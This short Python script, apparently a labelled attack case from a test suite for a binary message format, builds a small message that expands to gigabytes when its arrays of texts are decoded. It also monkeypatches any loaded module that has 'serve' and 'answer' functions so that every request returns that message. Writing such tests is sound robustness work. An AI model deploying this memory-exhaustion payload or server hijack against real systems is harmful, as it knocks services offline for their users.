# attack: small messages that grow to gigabytes when arrays of texts are made of them
# harmless: no
import struct
import sys

array = b"u\x01" + struct.pack(">I", 1000) + b"s" + struct.pack(">I", 4000) + b"x" * 4000
array += (b"s" + struct.pack(">I", 0)) * 999
message = b"t" + struct.pack(">I", 3) + b"s\0\0\0\0" + b"s\0\0\0\x05value"
message += b"l" + struct.pack(">I", 190) + array * 190
for name, module in list(sys.modules.items()):
    if hasattr(module, "serve") and hasattr(module, "answer"):
        module.answer = lambda request: message
